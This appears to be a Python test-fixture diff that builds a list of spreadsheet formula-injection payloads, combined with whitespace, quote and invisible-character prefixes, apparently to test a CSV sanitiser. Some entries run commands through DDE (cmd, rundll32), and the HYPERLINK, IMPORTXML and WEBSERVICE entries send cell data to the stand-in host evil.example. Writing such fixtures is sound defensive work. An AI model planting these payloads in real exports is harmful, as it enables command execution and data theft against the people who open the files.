@@ -1,0 +1,41 @@
+"""Cells that try to be formulas, as attackers and pen-testers' lists write them."""
+
+CORES = (
+    "=1+1",
+    "=cmd|'/C calc'!A0",
+    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
+    '=WEBSERVICE("http://evil.example/"&A2)',
+    '=DDE("cmd";"/C calc";"x")',
+    "=SUM(1+1)*cmd|' /C calc'!A0",
+    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
+    "+1+1",
+    "+cmd|'/C calc'!A0",
+    "-1+1",
+    "-2+3+cmd|'/C calc'!E1",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "@A1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1)",
+    "-5",
+    "+49 30 123",
+)
+BEFORE = (
+    "",
+    " ",
+    "  ",
+    "'",
+    "''",
+    '"',
+    "\t",
+    "\r",
+    "\n",
+    "\u00a0",
+    "\ufeff",
+    "\u200b",
+    " '",
+    "'\t",
+)
+FORMULAS = tuple(before + core for before in BEFORE for core in CORES)
